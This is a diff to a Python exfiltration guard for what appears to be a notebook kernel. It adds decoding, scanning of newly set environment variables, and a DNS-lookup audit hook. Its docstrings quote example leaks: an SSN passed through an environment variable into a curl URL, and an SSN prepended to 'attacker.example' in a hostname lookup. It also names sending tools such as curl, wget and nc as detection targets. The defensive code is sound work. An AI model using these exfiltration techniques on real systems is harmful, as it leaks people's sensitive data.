@@ -7,6 +7,7 @@ pass everywhere (they match no detector and are no known value).
 """
 from __future__ import annotations
 
+import os
 import re
 import sys
 from typing import Any
@@ -42,24 +43,63 @@ def check_out(rt: Any, host: str, data: Any, dest: str, how: str) -> None:
     if allowed(rt, host):   # an allowed host may receive them, within the budget
         exit_budget.spend(rt.guard, rt, data, how)
         return
-    kind = exits.scan(data, _settings(rt))
+    kind = exits.scan(data, _settings(rt), decode=True)
     if kind:   # the reason names the host only: the URL holds the values
         exits.refuse(rt.guard, rt, kind, host or "?", how, host=host or "an unknown host",
                      data=data)
 
 
-def check_command(rt: Any, cmd: str) -> None:
+_START_ENV = dict(os.environ)
+"""The kernel's environment as it started: only what user code set since is scanned."""
+
+
+def check_command(rt: Any, cmd: str, env: Any = None) -> None:
     """A child's command line: known sensitive values always; detected ones when the command
-    sends data (``curl``, ``wget``, ``nc``, a URL, ...)."""
+    sends data (``curl``, ``wget``, ``nc``, a URL, ...). Its environment too (``env``, or the
+    kernel's): a variable set since the kernel started that holds a known value
+    (``os.environ['X'] = ssns`` then ``!curl "...?d=$X"``)."""
     if busy() or not cmd:
         return
     if _SENDERS.search(cmd):
-        kind = exits.scan(cmd, _settings(rt))
+        kind = exits.scan(cmd, _settings(rt), decode=True)
     else:
         kind = exits._known(cmd)
+    if not kind and exits.known:
+        kind = exits._known(_new_env(env))
     if kind:   # the reason names the program only: the arguments hold the values
         word = cmd.split()[0] if cmd.split() else "?"
         exits.refuse(rt.guard, rt, kind, f"child process {word[:60]}", "child process")
+
+
+def lookup_handler(rt: Any) -> Any:
+    """The audit hook for ``socket.getaddrinfo``/``socket.gethostbyname``: a name looked up
+    carries its labels to DNS servers outside (``gethostbyname(ssn + '.attacker.example')``),
+    so a name holding a sensitive value is refused like an upload to its domain."""
+    def on_lookup(args: tuple[Any, ...], f: Any) -> None:
+        name = args[0] if args else None
+        if isinstance(name, bytes):
+            name = name.decode("latin-1")
+        if not isinstance(name, str) or "." not in name or busy() or not rt.user_stack(f):
+            return
+        labels = name.lower().rstrip(".").split(".")
+        domain = ".".join(labels[-2:])
+        if allowed(rt, name.lower()) or allowed(rt, domain):
+            return
+        kind = exits.scan("\n".join([name, *labels]), _settings(rt), decode=True)
+        if kind:
+            exits.refuse(rt.guard, rt, kind, domain, "DNS lookup", host=domain)
+    return on_lookup
+
+
+def _new_env(env: Any) -> str:
+    """The values of ``env`` (a mapping, or ``os.environ`` when None) not in the starting
+    environment, one per line."""
+    try:
+        items = (env if env is not None else os.environ).items()
+        return "\n".join(os.fsdecode(v) for k, v in items
+                         if _START_ENV.get(os.fsdecode(k)) != os.fsdecode(v))
+    except (AttributeError, TypeError, ValueError):   # an odd env: its arguments still decide
+        return ""
 
 
 def install_multiprocessing(rt: Any, mod: Any, patched: dict[tuple[Any, str], Any],
